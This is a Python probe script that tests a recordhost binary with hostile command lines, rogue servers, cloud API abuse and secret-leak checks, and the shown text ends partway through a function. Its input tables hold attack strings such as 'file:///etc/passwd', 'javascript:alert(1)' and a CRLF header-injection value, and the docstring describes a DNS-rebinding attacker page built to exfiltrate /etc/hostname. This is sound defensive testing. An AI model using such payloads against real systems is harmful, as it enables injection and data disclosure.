#!/usr/bin/env python3
"""Probes a built recordhost as an attacker and a careless operator would.

Usage:
  tests/probe/hostile.py [--binary PATH] [--quick] [--json [FILE]]
                         [--only TEXT] [--category NAMES] [--workdir DIR] [--jobs N]

  --binary PATH    the recordhost to probe (default: ROOT/build/src/recordhost); give
                   build-asan/src/recordhost to count LeakSanitizer reports
  --quick          a few cases of each kind: about 2 minutes instead of about 10 on 2 cores
  --json [FILE]    a JSON summary with every failing case (on stdout instead of the
                   table when no FILE is given)
  --only TEXT      only the cases whose name contains TEXT (repeatable)
  --category NAMES comma-separated: options, pages, ready-servers, cloud-api,
                   killed-recordings, secrets, hostile-origin
  --workdir DIR    where pages, servers' files, outputs and recordings go (default: a
                   new temporary directory, kept when a case failed)
  --jobs N         cases run at once, 1 or 2 (default 2)

Categories: options (bad command lines, and outputs that cannot be written: a FIFO or a
symlink for run, a directory, a 300-character name or a full disk for check), pages
(hostile record pages under `check`: loops that must end by --timeout with the engine,
memory without end under --page-memory, routes from Workers and iframes), ready-servers
(hostile --api-base servers), cloud-api (`recordhost cloud` under bad requests, foreign
Host and Origin headers, bodies that are not JSON, file: pages, tokens from the
environment or a file), killed-recordings (`run` and `cloud` stopped by signals), secrets
(the RTM token written by the page or echoed by a server, in every form), hostile-origin
(the local cloud from a hostile web origin: an attacker's page on http://127.0.0.2, in a
real headless Chromium, tries to start a file page whose sdkBundle is its own script, with
every simple request, a preflighted JSON fetch and a DNS-rebound name, and to read the
answers; its script, if ever run in the cloud's page, beacons back and sends what it can
read of /etc/hostname and a planted file; then each layer alone: Host, Origin, content
type, file pages, sdkBundle, file access).

hostile-origin needs Debian's chromium (`apt-get install -y --no-install-recommends
chromium`); without it the category is reported as not run, and the exit status is 1
when it was named with --category. Chromium is driven by its
command line alone (--headless, --host-resolver-rules maps evil.test to a relay on
127.0.0.3 that serves the attacker's page and passes the rest to the cloud, Host
unchanged). Clouds are started with the options the probed build knows (--allow-file-pages
where a case needs file pages).

Each case is bounded by a timeout (doubled, as the memory bounds are, for a binary whose path
says "asan"). The table (Markdown, on stdout) counts per category:
handled (behaved as documented), crashes (killed by a signal or a sanitizer report),
hangs (did not end within its bound: killed), lost (a recording or state event that
should exist does not), leaks (LeakSanitizer reports), secrets (occurrences of a secret
found in an output) and wrong (none of these, but not as documented: wrong exit status,
an error of more than one line, a report that is not JSON...). Progress goes to stderr;
every failing case is listed there at the end with a command that reproduces it. Exit
status: 0 when every case was handled, 1 otherwise, 2 for a bad command line.

Standard library only, plus ffprobe for the recordings and chromium for hostile-origin.
"""
import argparse
import base64
import concurrent.futures
import errno
import html
import json
import os
import re
import resource
import shlex
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import urllib.parse
import zlib
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
HANDLER = "recordhost"  # RH_BRIDGE_HANDLER_NAME in src/rh-bridge.h
STDERR_NOISE = {"Could not determine the accessibility bus address"}
REPORT_MAX = 5 << 20
OUTPUT_MAX = 64 << 20
RSS_MAX_KIB = 500 * 1024

CATEGORIES = ["options", "pages", "ready-servers", "cloud-api", "killed-recordings", "secrets",
              "hostile-origin"]


def log(text):
    print(text, file=sys.stderr, flush=True)


# ---------------------------------------------------------------------------------------
# Outcomes


class Outcome:
    """What one case did. handled: as documented; else the first of crash, hang,
    lost, secrets, wrong names why."""

    def __init__(self, category, name):
        self.category = category
        self.name = name
        self.problems = []
        self.crash = None
        self.hang = None
        self.lost = []
        self.leaks = 0
        self.secrets = 0
        self.repro = None
        self.notes = []

    def problem(self, text):
        self.problems.append(text)

    @property
    def kind(self):
        if self.crash:
            return "crash"
        if self.hang:
            return "hang"
        if self.lost:
            return "lost"
        if self.secrets:
            return "secrets"
        if self.problems:
            return "wrong"
        return "handled"

    def what(self):
        parts = []
        if self.crash:
            parts.append("crash: " + self.crash)
        if self.hang:
            parts.append("hang: " + self.hang)
        parts += ["lost: " + x for x in self.lost]
        if self.secrets:
            parts.append(f"secrets: {self.secrets} occurrence(s)")
        parts += self.problems
        if self.leaks:
            parts.append(f"LeakSanitizer: {self.leaks} report(s)")
        return "; ".join(parts)


# ---------------------------------------------------------------------------------------
# Shell quoting for the commands that reproduce a case


class Quoter:
    """Quotes arguments for a shell; long ones are written to files in the workdir."""

    def __init__(self, workdir):
        self.workdir = workdir
        self.count = 0
        self.lock = threading.Lock()

    def __call__(self, arg):
        if isinstance(arg, Path):
            arg = str(arg)
        raw = arg if isinstance(arg, bytes) else arg.encode("utf-8", "surrogateescape")
        if len(raw) > 300:
            with self.lock:
                self.count += 1
                path = self.workdir / f"arg-{self.count}"
            path.write_bytes(raw)
            return f'"$(cat {shlex.quote(str(path))})"'
        try:
            text = raw.decode("utf-8")
        except UnicodeDecodeError:
            text = None
        if text is not None and not any(ord(c) < 32 or 0x7F <= ord(c) < 0xA0 for c in text):
            return shlex.quote(text) if text else "''"
        out = []
        for b in raw:
            c = chr(b)
            if b < 32 or b >= 127 or c in "'\\":
                out.append("\\x%02x" % b)
            else:
                out.append(c)
        return "$'" + "".join(out) + "'"

    def command(self, argv, env=None):
        words = [f"{k}={self(v)}" for k, v in (env or {}).items()]
        return " ".join(words + [self(a) for a in argv])


# ---------------------------------------------------------------------------------------
# Processes


def proc_status(pid, field):
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith(field + ":"):
                    return int(line.split()[1])
    except (OSError, ValueError, IndexError):
        pass
    return 0


def group_members(pgid):
    out = []
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/stat") as f:
                tail = f.read().rsplit(")", 1)[1].split()
        except (OSError, IndexError):
            continue
        if int(tail[2]) == pgid and tail[0] != "Z":
            out.append(int(entry))
    return out


class Run:
    pass


class Proc:
    """A process of the binary in its own process group (WebKit's helpers join it),
    its output in files, its memory sampled from /proc."""

    def __init__(self, probe, argv, env=None, name="proc", preexec=None, tree_max_kib=None):
        self.probe = probe
        self.tree_max_kib = tree_max_kib
        self.argv = [str(a) if isinstance(a, Path) else a for a in argv]
        self.env_extra = env or {}
        base = probe.tmpname(name)
        self.out_path = Path(base + ".out")
        self.err_path = Path(base + ".err")
        # The binary may be being rebuilt: wait for it rather than fail the case.
        deadline = time.monotonic() + 300
        while True:
            try:
                with open(self.out_path, "wb") as out, open(self.err_path, "wb") as err:
                    self.popen = subprocess.Popen(self.argv, stdin=subprocess.DEVNULL,
                                                  stdout=out, stderr=err,
                                                  env=probe.env(self.env_extra),
                                                  cwd=probe.workdir, start_new_session=True,
                                                  preexec_fn=preexec)
                break
            except OSError as e:
                if e.errno not in (errno.EACCES, errno.ETXTBSY, errno.ENOENT) \
                        or time.monotonic() > deadline:
                    raise
                probe.note_rebuild()
                time.sleep(1)
        self.pid = self.popen.pid
        probe.procs.append(self)
        self.started = time.monotonic()
        self.hwm_kib = 0
        self.rss_kib = 0
        self.tree_kib = 0
        self.over = None
        self.ended_at = None
        self._done = threading.Event()
        self._sampler = threading.Thread(target=self._sample, daemon=True)
        self._sampler.start()

    def _sample(self):
        n = 0
        while not self._done.is_set() and self.popen.poll() is None:
            hwm = proc_status(self.pid, "VmHWM")
            rss = proc_status(self.pid, "VmRSS")
            self.hwm_kib = max(self.hwm_kib, hwm)
            self.rss_kib = rss
            if n % 5 == 0:
                total = sum(proc_status(p, "VmRSS") for p in group_members(self.pid))
                self.tree_kib = max(self.tree_kib, total)
                if self.tree_max_kib and total > self.tree_max_kib and self.over is None:
                    self.over = f"process tree RSS past {self.tree_max_kib >> 10} MiB: killed"
                    self.kill_group()
                for path, what in ((self.out_path, "stdout"), (self.err_path, "stderr")):
                    try:
                        size = path.stat().st_size
                    except OSError:
                        size = 0
                    if size > OUTPUT_MAX and self.over is None:
                        self.over = f"{what} grew past {OUTPUT_MAX >> 20} MiB: killed"
                        self.kill_group()
            n += 1
            self._done.wait(0.1)

    def alive(self):
        return self.popen.poll() is None

    def wait(self, timeout):
        try:
            self.popen.wait(timeout=max(0.0, timeout))
        except subprocess.TimeoutExpired:
            return False
        if self.ended_at is None:
            self.ended_at = time.monotonic()
        return True

    def signal(self, sig):
        try:
            os.kill(self.pid, sig)
        except ProcessLookupError:
            pass

    def kill_group(self):
        try:
            os.killpg(self.pid, signal.SIGKILL)
        except (ProcessLookupError, PermissionError):
            pass

    def first_line(self, timeout):
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            try:
                data = self.out_path.read_bytes()
            except OSError:
                data = b""
            if b"\n" in data:
                return data.split(b"\n", 1)[0].decode("utf-8", "replace")
            if not self.alive():
                return None
            time.sleep(0.05)
        return None

    def finish(self, timeout=None, linger=None):
        """Waits @timeout, then kills what is left of the group; with @linger, first
        gives the helpers that long to follow the process out (run.left: those that
        did not)."""
        run = Run()
        run.timed_out = False
        run.left = []
        if timeout is not None and not self.wait(timeout):
            run.timed_out = True
        if linger is not None and not run.timed_out and not self.alive():
            deadline = time.monotonic() + linger
            while True:
                run.left = [p for p in group_members(self.pid) if p != self.pid]
                if not run.left or time.monotonic() > deadline:
                    break
                time.sleep(0.1)
        self.kill_group()
        self.popen.wait()
        if self.ended_at is None:
            self.ended_at = time.monotonic()
        self._done.set()
        self._sampler.join()
        run.argv = self.argv
        run.env = self.env_extra
        run.rc = self.popen.returncode
        run.elapsed = self.ended_at - self.started
        run.hwm_kib = self.hwm_kib
        run.tree_kib = self.tree_kib
        run.over = self.over
        run.out_size = self.out_path.stat().st_size
        run.err_size = self.err_path.stat().st_size
        with open(self.out_path, "rb") as f:
            run.out = f.read(OUTPUT_MAX)
        with open(self.err_path, "rb") as f:
            run.err = f.read(OUTPUT_MAX)
        run.out_path = self.out_path
        run.err_path = self.err_path
        return run


# ---------------------------------------------------------------------------------------
# Judging a process


SANITIZER = re.compile(r"ERROR: AddressSanitizer|runtime error:|UndefinedBehaviorSanitizer"
                       r"|AddressSanitizer:DEADLYSIGNAL|ThreadSanitizer")
REPORT_START = re.compile(rb"^(==\d+==|=================|\S+:\d+:\d+: runtime error:)", re.M)
CRITICAL = re.compile(r"(\S+-CRITICAL \*\*.*|\*\* \S+:ERROR:.*|\S+-ERROR \*\*.*)")


def signame(number):
    try:
        return signal.Signals(number).name
    except ValueError:
        return f"signal {number}"


def stderr_before_report(run):
    match = REPORT_START.search(run.err)
    return run.err[: match.start()] if match else run.err


def judge(o, run, sent=None, bound=None):
    """Crash, hang, leaks, criticals; returns the exit status to compare, None when
    it cannot be (a leak report changed it, or the process was killed)."""
    text = run.err.decode("utf-8", "replace")
    if run.timed_out:
        o.hang = f"still running after {bound or run.elapsed:.0f} s: killed"
    if run.over:
        o.problem(run.over)
    leaks = text.count("ERROR: LeakSanitizer")
    o.leaks += leaks
    for line in text.splitlines():
        if SANITIZER.search(line) and not o.crash:
            o.crash = "sanitizer: " + line.strip()[:240]
    if run.rc is not None and run.rc < 0 and not run.timed_out and not run.over:
        if -run.rc != sent and not o.crash:
            o.crash = f"killed by {signame(-run.rc)}"
    for line in text.splitlines():
        match = CRITICAL.search(line)
        if match:
            o.problem("stderr: " + match.group(1)[:240])
            break
    if run.timed_out or run.over or (run.rc is not None and run.rc < 0):
        return None
    if leaks and run.rc == 23:
        return None
    return run.rc


UNPRINTABLE = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


def unprintable(text):
    match = UNPRINTABLE.search(text)
    return None if match is None else "U+%04X" % ord(match.group(0))


def check_printable(o, data, where):
    try:
        text = data.decode("utf-8")
    except UnicodeDecodeError as e:
        o.problem(f"{where} is not UTF-8 (byte {e.start})")
        return
    bad = unprintable(text)
    if bad:
        line = next(x for x in text.split("\n") if UNPRINTABLE.search(x))
        o.problem(f"raw {bad} on {where}: {line[:160]!r}")


def expect_status(o, rc, allowed):
    if rc is not None and rc not in allowed and not o.crash and not o.hang:
        o.problem(f"exit {rc}, expected {' or '.join(map(str, sorted(allowed)))}")


def expect_one_line(o, run, prefix):
    """One error line naming the program (and maybe the "Try ... --help" hint)."""
    err = stderr_before_report(run)
    try:
        text = err.decode("utf-8")
    except UnicodeDecodeError:
        o.problem("stderr is not UTF-8")
        text = err.decode("utf-8", "replace")
    lines = [x for x in text.split("\n")
             if x.strip() and not x.startswith("Try '") and x not in STDERR_NOISE]
    if len(lines) != 1:
        o.problem(f"{len(lines)} error lines on stderr, expected 1: "
                  + " | ".join(repr(x[:100]) for x in lines[:3]))
    elif not lines[0].startswith(prefix):
        o.problem(f"error line does not start with {prefix!r}: {lines[0][:120]!r}")
    bad = unprintable(text.replace("\n", ""))
    if bad:
        o.problem(f"raw {bad} in the error line")


def parse_report(o, run):
    """The --json report: one object, UTF-8, bounded."""
    if run.out_size >= REPORT_MAX:
        o.problem(f"--json report is {run.out_size / 1e6:.1f} MB (bound 5 MB)")
    try:
        text = run.out.decode("utf-8")
    except UnicodeDecodeError as e:
        o.problem(f"--json report is not UTF-8 (byte {e.start})")
        return None
    try:
        report = json.loads(text)
    except ValueError as e:
        o.problem(f"--json report does not parse: {e}; starts {text[:80]!r}")
        return None
    if not isinstance(report, dict):
        o.problem("--json report is not an object")
        return None
    return report


def strings_of(node, out):
    if isinstance(node, str):
        out.append(node)
    elif isinstance(node, dict):
        for k, v in node.items():
            out.append(k)
            strings_of(v, out)
    elif isinstance(node, list):
        for v in node:
            strings_of(v, out)
    return out


# ---------------------------------------------------------------------------------------
# Raw HTTP


class Resp:
    def __init__(self):
        self.status = None
        self.headers = {}
        self.body = b""
        self.error = None
        self.elapsed = 0.0
        self.raw_head = b""


def read_response(sock, head_only=False, deadline=None, limit=8 << 20):
    """Reads one HTTP response from @sock (Content-Length, chunked or until close)."""
    resp = Resp()
    data = b""
    start = time.monotonic()
    try:
        while b"\r\n\r\n" not in data:
            sock.settimeout(max(0.05, deadline - time.monotonic()) if deadline else 10)
            chunk = sock.recv(65536)
            if not chunk:
                break
            data += chunk
            if len(data) > limit:
                break
        if b"\r\n\r\n" not in data:
            resp.error = "connection closed before an answer" if not data else \
                f"incomplete answer: {data[:80]!r}"
            return resp
        head, rest = data.split(b"\r\n\r\n", 1)
        resp.raw_head = head
        lines = head.split(b"\r\n")
        parts = lines[0].split(b" ", 2)
        try:
            resp.status = int(parts[1])
        except (IndexError, ValueError):
            resp.error = f"bad status line {lines[0][:80]!r}"
            return resp
        for line in lines[1:]:
            if b":" in line:
                k, v = line.split(b":", 1)
                resp.headers.setdefault(k.strip().lower().decode("latin-1"),
                                        v.strip().decode("latin-1"))
        if head_only or resp.status in (204, 304) or 100 <= resp.status < 200:
            return resp
        length = resp.headers.get("content-length")
        chunked = "chunked" in resp.headers.get("transfer-encoding", "").lower()
        body = rest
        while True:
            if length is not None and len(body) >= int(length):
                body = body[: int(length)]
                break
            if chunked and body.endswith(b"0\r\n\r\n"):
                break
            if len(body) > limit:
                break
            sock.settimeout(max(0.05, deadline - time.monotonic()) if deadline else 10)
            chunk = sock.recv(65536)
            if not chunk:
                break
            body += chunk
        if chunked:
            out, pos = b"", 0
            while True:
                end = body.find(b"\r\n", pos)
                if end < 0:
                    break
                try:
                    size = int(body[pos:end].split(b";")[0], 16)
                except ValueError:
                    break
                if size == 0:
                    break
                out += body[end + 2: end + 2 + size]
                pos = end + 2 + size + 2
            body = out
        resp.body = body
    except socket.timeout:
        resp.error = resp.error or ("no answer within the bound" if resp.status is None
                                    else "body not finished within the bound")
    except OSError as e:
        resp.error = resp.error or f"{type(e).__name__}: {e}"
    finally:
        resp.elapsed = time.monotonic() - start
    return resp


def build_request(method, path, body=b"", headers=None, length=True, version=b"HTTP/1.1",
                  json_type=True):
    """A request to 127.0.0.1 (http_call adds the port to its Host); a body goes as
    application/json unless @headers give a Content-Type or @json_type is False."""
    def b(x):
        return x if isinstance(x, bytes) else x.encode("utf-8")
    lines = [b(method) + b" " + b(path) + b" " + version, b"Host: 127.0.0.1",
             b"Connection: close"]
    for k, v in (headers or []):
        lines.append(b(k) + b": " + b(v))
    typed = any(b(k).lower() == b"content-type" for k, _ in (headers or []))
    if body and json_type and not typed:
        lines.append(b"Content-Type: application/json")
    if length and body is not None:
        lines.append(b"Content-Length: %d" % len(body))
    return b"\r\n".join(lines) + b"\r\n\r\n" + (body or b"")


def with_port(data, port):
    """@data with its "Host: 127.0.0.1" naming @port, as a browser's or curl's would: the
    cloud answers only the Host names it listens under."""
    return data.replace(b"\r\nHost: 127.0.0.1\r\n", b"\r\nHost: 127.0.0.1:%d\r\n" % port, 1)


def http_call(port, data, timeout=10, head_only=False):
    data = with_port(data, port)
    start = time.monotonic()
    try:
        sock = socket.create_connection(("127.0.0.1", port), timeout=timeout)
    except OSError as e:
        resp = Resp()
        resp.error = f"cannot connect: {e}"
        return resp
    try:
        try:
            sock.sendall(data)
        except OSError:
            pass  # an answer may still be there (refused on its headers)
        resp = read_response(sock, head_only=head_only, deadline=start + timeout)
    finally:
        sock.close()
    resp.elapsed = time.monotonic() - start
    return resp


def api(port, method, path, body=None, headers=None, timeout=10):
    data = body if isinstance(body, bytes) or body is None else json.dumps(body).encode()
    return http_call(port, build_request(method, path, data or b"", headers), timeout)


# ---------------------------------------------------------------------------------------
# A scriptable loopback server speaking raw HTTP


class RawServer:
    """Answers each connection with @behave(conn, server, request_bytes)."""

    def __init__(self, behave, read_request=True, host="127.0.0.1", port=0):
        self.behave = behave
        self.read_request = read_request
        self.host = host
        self.stop = threading.Event()
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind((host, port))
        self.sock.listen(128)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.attempts = 0
        self.requests = []
        self.lock = threading.Lock()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    @property
    def url(self):
        return f"http://{self.host}:{self.port}"

    def _serve(self):
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except socket.timeout:
                continue
            except OSError:
                return
            threading.Thread(target=self._handle, args=(conn,), daemon=True).start()

    def _handle(self, conn):
        try:
            conn.settimeout(20)
            request = b""
            if self.read_request:
                while b"\r\n\r\n" not in request and len(request) < (1 << 20):
                    chunk = conn.recv(65536)
                    if not chunk:
                        break
                    request += chunk
                head = request.split(b"\r\n\r\n", 1)[0]
                match = re.search(rb"(?im)^content-length:\s*(\d+)", head)
                if match:
                    want = len(head) + 4 + int(match.group(1))
                    while len(request) < want:
                        chunk = conn.recv(65536)
                        if not chunk:
                            break
                        request += chunk
            with self.lock:
                self.attempts += 1
                self.requests.append(request[:4096])
            self.behave(conn, self, request)
        except OSError:
            pass
        finally:
            try:
                conn.close()
            except OSError:
                pass

    def close(self):
        self.stop.set()
        try:
            self.sock.close()
        except OSError:
            pass


def answer(conn, status=200, body=b"", ctype="application/json", extra=b"", reason=b"OK"):
    if isinstance(body, str):
        body = body.encode()
    conn.sendall(b"HTTP/1.1 %d %s\r\nContent-Type: %s\r\nContent-Length: %d\r\n%s"
                 b"Connection: close\r\n\r\n" % (status, reason, ctype.encode(), len(body), extra)
                 + body)


def sleep_until_stopped(server, seconds):
    server.stop.wait(seconds)


def parse_request(request):
    """(method, target, headers with lower-case names, body) of a raw request."""
    head, _, body = request.partition(b"\r\n\r\n")
    lines = head.split(b"\r\n")
    parts = lines[0].split(b" ")
    method = parts[0].decode("latin-1")
    target = parts[1].decode("latin-1") if len(parts) > 1 else ""
    headers = {}
    for line in lines[1:]:
        if b":" in line:
            k, v = line.split(b":", 1)
            headers[k.strip().lower().decode("latin-1")] = v.strip().decode("latin-1")
    return method, target, headers, body


class Site:
    """A web site on a loopback address of its own (another origin than the cloud's):
    files at fixed paths, every request kept, 204 to any other path, or, given
    @forward, any other request relayed to that port of 127.0.0.1 as it came (its Host
    included), as a DNS name rebound to the cloud would have it."""

    def __init__(self, host="127.0.0.2", port=0, forward=None):
        self.files = {}
        self.hits = []
        self.forward = forward
        self.lock = threading.Lock()
        self.server = RawServer(self._behave, host=host, port=port)
        self.port = self.server.port
        self.url = self.server.url

    def add(self, path, body, ctype="text/html; charset=utf-8"):
        self.files[path] = (ctype, body.encode() if isinstance(body, str) else body)

    def _behave(self, conn, server, request):
        method, target, headers, body = parse_request(request)
        path = target.split("?", 1)[0]
        with self.lock:
            self.hits.append((method, target, headers, body))
        if path in self.files and method == "GET":
            ctype, data = self.files[path]
            answer(conn, 200, data, ctype=ctype)
        elif self.forward:
            self._relay(conn, request)
        else:
            answer(conn, 204, b"", ctype="text/plain", reason=b"No Content")

    def _relay(self, conn, request):
        head, sep, body = request.partition(b"\r\n\r\n")
        head = re.sub(rb"(?im)^connection:[^\r\n]*\r\n", b"", head + b"\r\n")
        try:
            upstream = socket.create_connection(("127.0.0.1", self.forward), timeout=15)
        except OSError:
            answer(conn, 502, b"", ctype="text/plain", reason=b"Bad Gateway")
            return
        try:
            upstream.sendall(head + b"Connection: close" + sep + body)
            while True:
                chunk = upstream.recv(65536)
                if not chunk:
                    break
                conn.sendall(chunk)
        except OSError:
            pass
        finally:
            upstream.close()

    def hits_to(self, prefix):
        with self.lock:
            return [h for h in self.hits if h[1].startswith(prefix)]

    def holding(self, secret):
        """Requests whose target or body hold @secret (also percent-encoded)."""
        with self.lock:
            hits = list(self.hits)
        return [h for h in hits if secret in urllib.parse.unquote_plus(h[1])
                or secret.encode() in h[3]]

    def reports(self):
        out = []
        for method, target, headers, body in self.hits_to("/report"):
            try:
                out.append(json.loads(body.decode("utf-8")))
            except (UnicodeDecodeError, ValueError):
                pass
        return out

    def close(self):
        self.server.close()


# ---------------------------------------------------------------------------------------
# The probe


class Case:
    def __init__(self, category, name, fn, quick=False, slow=False):
        self.category = category
        self.name = name
        self.fn = fn
        self.quick = quick
        self.slow = slow


class Probe:
    def __init__(self, args):
        self.binary = Path(args.binary).resolve()
        self.quick = args.quick
        self.jobs = max(1, min(2, args.jobs))
        self.asan = "asan" in str(self.binary)
        self.scale = 2.0 if self.asan else 1.0
        if args.workdir:
            self.workdir = Path(args.workdir).resolve()
            self.workdir.mkdir(parents=True, exist_ok=True)
            self.own_workdir = False
        else:
            self.workdir = Path(tempfile.mkdtemp(prefix="recordhost-probe-"))
            self.own_workdir = True
        self.home = self.workdir / "home"
        for sub in ("", ".cache", ".local/state", ".local/share", ".config"):
            (self.home / sub).mkdir(parents=True, exist_ok=True)
        self.pages = self.workdir / "pages"
        self.pages.mkdir(exist_ok=True)
        (self.workdir / "runs").mkdir(exist_ok=True)
        self.counter = 0
        self.lock = threading.Lock()
        self.procs = []
        self.rebuilt = False
        self.cloud_help = None
        self.site = None
        self.not_run = {}
        self.quote = Quoter(self.workdir)
        self.page = ROOT / "page" / "record_page.html"
        self.script = Path(__file__).resolve()
        self.args = args

    def note_rebuild(self):
        with self.lock:
            if not self.rebuilt:
                log(f"{self.binary} cannot be run now (being rebuilt?): waiting for it")
            self.rebuilt = True

    def tmpname(self, name):
        with self.lock:
            self.counter += 1
            n = self.counter
        safe = re.sub(r"[^A-Za-z0-9_.-]+", "_", name)[:40]
        return str(self.workdir / "runs" / f"{n:05d}-{safe}")

    def env(self, extra=None):
        env = {k: v for k, v in os.environ.items()
               if not k.startswith("RECORDHOST_") and k.lower() not in
               ("http_proxy", "https_proxy", "all_proxy", "no_proxy")}
        env.update(HOME=str(self.home), XDG_CACHE_HOME=str(self.home / ".cache"),
                   XDG_STATE_HOME=str(self.home / ".local/state"),
                   XDG_DATA_HOME=str(self.home / ".local/share"),
                   XDG_CONFIG_HOME=str(self.home / ".config"),
                   NO_AT_BRIDGE="1", GIO_USE_VFS="local", GSETTINGS_BACKEND="memory",
                   ASAN_OPTIONS="detect_leaks=1:fast_unwind_on_malloc=0",
                   UBSAN_OPTIONS="halt_on_error=1:print_stacktrace=1")
        supp = ROOT / "tests" / "lsan.supp"
        if supp.exists():
            env["LSAN_OPTIONS"] = f"suppressions={supp}:print_suppressions=0"
        for k, v in (extra or {}).items():
            env[k] = v
        return env

    def proc(self, argv, env=None, name="proc", **kwargs):
        return Proc(self, [self.binary] + list(argv), env=env, name=name, **kwargs)

    def cloud_knows(self, option):
        """Whether `cloud --help` names --@option: the probe starts clouds with the
        options of the build it probes, and judges the cases that need one anyway."""
        with self.lock:
            if self.cloud_help is None:
                try:
                    self.cloud_help = subprocess.run(
                        [self.binary, "cloud", "--help"], capture_output=True, timeout=20,
                        env=self.env()).stdout.decode("utf-8", "replace")
                except (OSError, subprocess.TimeoutExpired):
                    self.cloud_help = ""
            return f"--{option}" in self.cloud_help

    def run(self, argv, timeout, env=None, name="run"):
        return self.proc(argv, env=env, name=name).finish(timeout * self.scale)

    def command(self, run_or_argv, env=None):
        if isinstance(run_or_argv, Run):
            argv, env = run_or_argv.argv, run_or_argv.env
        else:
            argv = [str(self.binary)] + list(run_or_argv)
        return self.quote.command(argv, env)

    def rerun(self, name):
        return (f"{self.quote(str(self.script))} --binary {self.quote(str(self.binary))} "
                f"--only {self.quote(name)}")

    def write_page(self, name, text):
        path = self.pages / f"{name}.html"
        path.write_text(text, encoding="utf-8", errors="surrogatepass")
        return path


def show(arg):
    """A short printable name for an argument."""
    if isinstance(arg, bytes):
        return repr(arg)[1:] if len(arg) <= 40 else f"<{len(arg)} bytes>"
    if len(arg) > 40:
        return f"<{len(arg)} x {arg[:6]!r}...>"
    if arg == "" or re.search("[\x00-\x20\\\\]", arg) or unprintable(arg):
        return repr(arg)
    return arg


def with_option(base, option, value):
    """@base without --OPTION=..., then --OPTION=VALUE (bytes stay bytes)."""
    prefix = f"--{option}="
    out = [a for a in base if not (isinstance(a, str) and a.startswith(prefix))]
    out.append(prefix.encode() + value if isinstance(value, bytes) else prefix + value)
    return out


# ---------------------------------------------------------------------------------------
# 1. options


NUM_BAD = ["", "abc", "-1", "1.5", "0x10", "1e3", "5abc", "\u0663", "99999999999999999999",
           "4294967296", "18446744073709551616", b"\xff", "\x1b[31m5", "5\n6"]
PAGE_NUMERIC = {"room-type": (0, 4), "role-type": (0, 100), "width": (480, 1920),
                "height": (480, 1920), "blank-threshold": (50, 100)}
CHECK_NUMERIC = {"timeout": (1, 86400), "slow-paint-ms": (0, 3600000),
                 "paint-grace-ms": (0, 600000)}
RUN_NUMERIC = {"retry-timeout": (1, 3600), "duration": (1, 604800), "video-fps": (5, 60),
               "video-bitrate": (50, 8000)}
STRING_BAD = {
    "region": ["", "XX", "cn ", " CN", "C N", "ASIA", "AP1", "\x1b[31mCN", "CN\n", "\u0108N",
               b"C\xffN", "x" * 10000],
    "ready": ["", "bogus", "console:", "EVENT1", "event1 ", "console", "notify:", "\x1b",
              b"\xff"],
    "webrtc": ["", "x", "STANDIN", "standin ", "present", b"\xff"],
    "sdk-api": ["", "remote", "LOCAL", "local ", b"\xff"],
    "api-base": ["", "notaurl", "ftp://x", "http://", "https://", "http:///path", "http://[::1",
                 "http://host:99999", "http://host:-1", "javascript:alert(1)",
                 "file:///etc/passwd", "data:,x", "//host/path", "http://exa mple.com/",
                 "http://\x1b[2J/", b"http://\xff/"],
    "route": ["", "foo", "=http://x", "h=", "h=ftp://x", "h=notaurl", "h=http://x/?q=1",
              "h=http://", "h=http://[::1", b"h=http://\xff/", "h=http://user:pw@127.0.0.1:9",
              "h=http://user@127.0.0.1:9", "h=http://u:p@x/", "h=http://@x/"],
    "param": ["", "noequals", "=v", "==", "appId=x", "roomUuid=x", "roomType=1", "userUuid=u",
              "roleType=1", "pretest=true", "rtmToken=t", "language=zz", "region=cn"],
    "app-id": [""],
    "room-uuid": ["", ".", ".."],
    "user-uuid": [""],
    "user-agent": [""],
}
VALUE_OPTIONS = {
    "check": ["app-id", "room-uuid", "room-type", "user-uuid", "role-type", "rtm-token",
              "language", "region", "param", "width", "height", "ready", "api-base", "webrtc",
              "route", "sdk-api", "sdk", "user-agent", "timeout", "snapshots", "junit",
              "slow-paint-ms", "paint-grace-ms", "har", "blank-threshold"],
    "run": ["app-id", "room-uuid", "room-type", "user-uuid", "role-type", "rtm-token",
            "language", "region", "param", "width", "height", "ready", "api-base", "webrtc",
            "route", "sdk-api", "sdk", "user-agent", "retry-timeout", "duration", "state-log",
            "record", "video-fps", "video-bitrate", "blank-threshold"],
    "cloud": ["listen", "data-dir", "require-token", "max-rooms", "rooms-per-web-process"],
}
VALUE_OPTIONS["demo"] = VALUE_OPTIONS["check"]
SOFT_VALUES = ["a" * 100000, "\x1b[2J\x1b]0;t\x07", "a/b/../c", "a?b#c&d=e",
               "\u00e9\u6f22\U0001F389", b"\xff\xfe", "\n", "%00%2e%2e", " ", "\u202e",
               "\r\nX-Injected: 1"]


def numeric_bad(lo, hi):
    values = list(NUM_BAD)
    if lo > 0:
        values.append(str(lo - 1))
    values.append(str(hi + 1))
    return values


def option_cases(probe):
    page = str(probe.page)
    work = str(probe.workdir)
    quick_page = ["--param=sdkReadyMs=50", "--param=sdkPaintMs=0"]
    base = {
        "check": [page, "--app-id=a", "--room-uuid=r", "--room-type=4", "--timeout=4", "-q",
                  "--paint-grace-ms=0"] + quick_page,
        "demo": ["--timeout=4", "-q", "--paint-grace-ms=0"] + quick_page,
        "run": [page, "--app-id=a", "--room-uuid=r", "--room-type=4", "--retry-timeout=3",
                "--duration=1", "-q"] + quick_page,
    }
    rows = []  # (command, argv after the command, expected statuses, shown)

    def add(cmd, argv, shown, allowed=(2,)):
        rows.append((cmd, argv, set(allowed), shown))

    for cmd in ("check", "demo", "run"):
        numeric = dict(PAGE_NUMERIC)
        numeric.update(RUN_NUMERIC if cmd == "run" else CHECK_NUMERIC)
        for option, (lo, hi) in numeric.items():
            for value in numeric_bad(lo, hi):
